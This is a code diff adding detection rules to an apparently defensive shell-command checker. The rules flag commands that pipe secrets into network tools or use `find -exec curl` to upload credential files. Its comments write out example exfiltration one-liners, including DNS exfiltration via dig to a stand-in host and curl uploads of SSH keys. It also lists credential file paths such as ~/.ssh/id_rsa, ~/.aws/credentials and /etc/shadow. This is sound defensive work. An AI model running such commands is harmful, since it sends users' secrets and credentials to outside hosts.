@@ -239,3 +239,53 @@ function privateToNetwork(cmd: Cmd, j: Judgement) {
     if (src && (src.private || src.history)) return j.report("net.upload-private", cmd.pipe!.stages[0]!.start, cmd.end);
   }
 }
+
+/** A pipeline stage that is a loop or block (`xxd -p key | while read l; do dig $l.x.example; done`): secrets read into a sender. */
+export function secretsIntoLoop(stages: Cmd[], j: Judgement) {
+  for (let i = 1; i < stages.length; i++) {
+    const s = stages[i]!;
+    if (!s.compound || !s.inner?.some((c) => NETWORK_SINKS.has(c.name))) continue;
+    const src = describeSource(stages, i);
+    if (src.secret) return j.report("net.exfiltrate-secret", stages[0]!.start, s.end);
+    if (src.private || src.history) return j.report("net.upload-private", stages[0]!.start, s.end);
+  }
+}
+
+/** Names of credential files, to test `find -name` patterns against. */
+const SECRET_NAMES = [
+  "~/.ssh/id_rsa",
+  "~/.ssh/id_ed25519",
+  "~/.aws/credentials",
+  "~/.netrc",
+  "~/.git-credentials",
+  "~/.env",
+  "~/x/.env",
+  "~/x/key.pem",
+  "~/.kube/config",
+  "~/.docker/config.json",
+  "~/.npmrc",
+  "~/.pypirc",
+  "/etc/shadow",
+];
+
+/** `find ~ -name 'id_*' -exec curl -F f=@{} URL \;`: each credential file found is sent away. */
+export function findToNetwork(cmd: Cmd, j: Judgement) {
+  const at = cmd.args.findIndex((w) => /^-(exec|execdir|ok|okdir)$/.test(w.text));
+  const prog = cmd.args[at + 1];
+  if (at < 0 || !prog || !NETWORK_SINKS.has(prog.text.split("/").pop()!)) return;
+  const roots = cmd.args.slice(0, cmd.args.findIndex((w) => /^[-(!]/.test(w.text)) >>> 0);
+  const patterns = cmd.args.flatMap((w, i) =>
+    /^-i?(name|path|wholename)$/.test(w.text) && cmd.args[i + 1] ? [cmd.args[i + 1]!.text] : [],
+  );
+  const toRe = (g: string) =>
+    new RegExp(
+      `(^|/)${g
+        .replace(/[.+^${}()|\\]/g, "\\$&")
+        .replace(/\*/g, "[^]*")
+        .replace(/\?/g, ".")}$`,
+      "i",
+    );
+  const secretRoot = roots.some((w) => isSecretFile(w.text, cmd));
+  const secretName = patterns.some((p) => SECRET_NAMES.some((n) => toRe(p).test(n)));
+  if (secretRoot || secretName) j.reportWord("net.exfiltrate-secret", prog);
+}
